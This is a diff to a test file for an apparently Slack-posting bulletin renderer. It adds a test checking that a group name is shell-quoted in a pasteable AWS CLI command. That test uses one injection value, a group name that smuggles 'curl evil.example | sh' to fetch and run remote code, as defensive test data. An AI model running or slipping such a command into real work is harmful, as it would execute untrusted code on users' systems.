@@ -56,6 +56,16 @@ it('mentions the owner of a standing pass who is known by a Slack id, and no nam
   expect(JSON.stringify(drawBulletin({ ...ends, owner: '<!here>' }, 'en'))).not.toContain('<!here>')
 })
 
+it('quotes what others named in a command that somebody may paste into a shell', () => {
+  const { 'group-suspended': suspended } = bulletinsWith("x'; curl evil.example | sh #")
+  const said = JSON.stringify(drawBulletin(suspended, 'en').blocks[2])
+  expect(said).toContain(String.raw`--auto-scaling-group-name 'x'\\''; curl evil.example | sh #' --scaling`)
+  const fleet = { ...suspended, group: { kind: 'fleet', name: 'fleet-1' }, targetWas: 7 } as const
+  expect(JSON.stringify(drawBulletin(fleet, 'ja'))).toContain(
+    '--fleet-id fleet-1 --target-capacity-specification TotalTargetCapacity=7`',
+  )
+})
+
 const hostile = fc.oneof(
   fc.string({ unit: 'binary', maxLength: 400 }),
   fc.constantFrom(
@@ -82,6 +92,7 @@ it('whatever others wrote does nothing in it, however hostile, and hides nothing
         expect(blockProblems(JSON.parse(said).blocks as never)).toEqual([])
         expect(said.replaceAll('startpass:', '')).not.toMatch(acting)
         expect(said).not.toMatch(/\\ud[89a-f]|\\u0000|\\n\\u/i)
+        if (bulletin.kind === 'group-suspended') continue
         const plain = JSON.stringify(drawBulletin(bulletinsWith('x')[bulletin.kind], locale).blocks[2])
         expect(JSON.stringify(drawn.blocks[2])).toBe(plain)
       }
